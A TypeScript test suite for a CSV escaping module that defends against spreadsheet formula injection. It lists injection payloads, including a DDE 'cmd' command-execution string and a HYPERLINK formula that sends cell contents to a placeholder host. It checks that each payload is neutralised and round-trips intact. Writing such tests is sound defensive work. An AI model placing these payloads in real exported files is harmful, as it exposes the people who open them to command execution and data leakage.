import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvCell, csvLine, csvText, readCsvText } from "./csv-cell.ts";

/** 100 texts that spreadsheets would run: every mark before every command, the ways to hide it, and figures with a tail. */
function payloads(): string[] {
  const marks = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "\0=",
    " =",
    "'=",
    "''+",
    "＝",
    "＋",
    "－",
    "＠",
    "+1+",
    "-2+3+",
  ];
  const commands = [
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.test?a="&A1,"b")',
    "SUM(1,2)",
    "1+1",
    'DDE("a";"b")',
    "x",
  ];
  return marks.flatMap((mark) => commands.map((command) => mark + command)).slice(0, 100);
}

/** The cell as a spreadsheet reads it from the file. */
function shown(cell: string): string {
  return cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
}

/** Whether a spreadsheet would work it out: a mark at the beginning, and no plain number. */
function isRun(text: string): boolean {
  return /^[\s\0]*[=+\-@＝＋－＠]/.test(text) && !/^[+-][\d.]+$/.test(text);
}

describe("a cell of a CSV file", () => {
  it("runs none of 100 payloads, and gives each back as it was", () => {
    const all = payloads();
    expect(new Set(all).size).toBe(100);
    for (const text of all)
      for (const write of [csvText, csvCell]) {
        expect(isRun(shown(write(text))), text).toBe(false);
        expect(readCsvText(shown(write(text)))).toBe(text);
      }
  });

  it("neutralises what begins like a number and goes on like a formula", () => {
    expect(csvLine(["+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"])).toBe(
      "'+1+cmd|' /C calc'!A0,'-2+3+cmd|' /C calc'!A0",
    );
  });

  it("leaves figures as they are where a cell may be one", () => {
    const figures = ["-1234.50", "+7", "0", "-.5", "1e5", "-2.5E-3", "12345678901234567890.123456789012345678"];
    expect(figures.map(csvCell)).toEqual(figures);
    // A name that looks like one is a text all the same.
    expect(csvText("-1")).toBe("'-1");
    expect(readCsvText("'-1")).toBe("-1");
  });

  it("gives any text back", () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom("'", "=", "-", "1", " ", "a", '"', ",", "\n", "\t", "＝") }),
        (text) => {
          expect(readCsvText(shown(csvText(text)))).toBe(text);
          if (!/^'.*-?\d/s.test(text)) expect(isRun(shown(csvCell(text)))).toBe(false);
        },
      ),
    );
  });
});
